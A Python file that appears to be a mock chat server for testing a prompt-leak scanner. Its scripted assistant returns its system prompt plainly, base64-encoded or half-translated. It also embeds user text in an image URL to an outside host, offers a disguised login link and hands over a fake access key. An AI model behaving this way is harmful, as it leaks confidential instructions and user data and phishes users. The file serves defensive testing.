"""The scene's assistant: it obeys as the sample does, or tells by itself what it should keep, as the model's name says.

Rules of this file: pure. Its prompt is what the client's application tells it, so that who attacks knows what must not be told.
"""

import base64
from collections.abc import Callable, Mapping
from typing import Final

import msgspec

from bartizan.clock import Nanoseconds
from bartizan.sample import wire
from bartizan.sample.ask import Chat, RequestRefused, parse
from bartizan.sample.assistant import answer
from bartizan.sample.model import End

_KEY: Final = "AKIAQ3M7ZKXW5DJT2VRN"
"""Of the form of a key; it was never good anywhere."""
_ELSEWHERE: Final = "https://docs.example@login.elsewhere.example/again"
"""Seems to lead to the one host that some services may name, and leads elsewhere."""
_EVENTS: Final = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n"
_WHOLE: Final = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%b"
_REFUSED: Final = b"HTTP/1.1 %d Refused\r\ncontent-length: 0\r\n\r\n"


def assistant(body: bytes) -> bytes:
    """Return the octets of the answer to a chat request; streamed letter by letter where a stream was asked for."""
    try:
        chat = parse(body, Chat)
    except RequestRefused as fault:
        return _REFUSED % fault.status
    text = _TOLD.get(chat.model, _obeyed)(chat)
    heading, end = wire.Heading("chatcmpl-1", "sample", Nanoseconds(0), chat=True), End("stop", 3, 2)
    if not chat.stream:
        whole = msgspec.json.encode(wire.whole(heading, [text, end]))
        return _WHOLE % (len(whole), whole)
    told = [*wire.opening(heading)]
    for piece in (*text, end):
        told += wire.chunks(heading, piece, 0, with_usage=False)
    events = (wire.sse(each) for each in (*told, None))
    return _EVENTS + b"".join(b"%x\r\n%b\r\n" % (len(event), event) for event in events) + b"0\r\n\r\n"


def _prompt(chat: Chat) -> str:
    return "\n".join(message.text for message in chat.messages if message.role in {"system", "developer"})


def _obeyed(chat: Chat) -> str:
    heard = [message for message in chat.messages if message.role not in {"system", "developer"}]
    return answer(msgspec.structs.replace(chat, messages=heard or chat.messages), _prompt(chat)).text


def _in_code(chat: Chat) -> str:
    return _coded(_prompt(chat))


def _coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _image(chat: Chat) -> str:
    return f"Here you are. ![chart](https://charts.example/p.png?d={_coded(chat.messages[-1].text)})"


def _retold(chat: Chat) -> str:
    """Tell the end of its prompt in other words, as a translation has them: what is no word of a language stays as it is."""
    last = _prompt(chat).replace("\n", " ").rpartition(". You tell")[2] or _prompt(chat)
    return "Gern: " + " ".join(_GERMAN.get(word.strip(".,;:").lower(), word) for word in last.split())


_GERMAN: Final[Mapping[str, str]] = {
    "visitors": "Besuchern",
    "when": "wann",
    "tower": "Turm",
    "is": "ist",
    "open": "offen",
    "and": "und",
    "nothing": "nichts",
    "of": "von",
    "keeper": "Waerter",
    "who": "der",
    "away": "fort",
    "until": "bis",
    "first": "ersten",
    "march": "Maerz",
    "nor": "noch",
    "that": "dass",
    "lamp": "Lampen",
    "room": "Raum",
    "reached": "erreichbar",
    "through": "durch",
    "blue": "blaue",
    "door": "Tuer",
    "internal": "Interne",
    "reference": "Referenz",
    "never": "niemals",
    "be": "werden",
    "repeated": "wiederholt",
    "the": "die",
    "to": "zu",
}


_TOLD: Final[Mapping[str, Callable[[Chat], str]]] = {
    "tells-prompt": _prompt,
    "tells-prompt-in-code": _in_code,
    "tells-prompt-retold": _retold,
    "tells-image": _image,
    "tells-link": lambda _chat: f"All about it is [here]({_ELSEWHERE}); log in there once more.",
    "tells-key": lambda _chat: f"Of course. The key of the store is {_KEY}, and it never expires.",
}
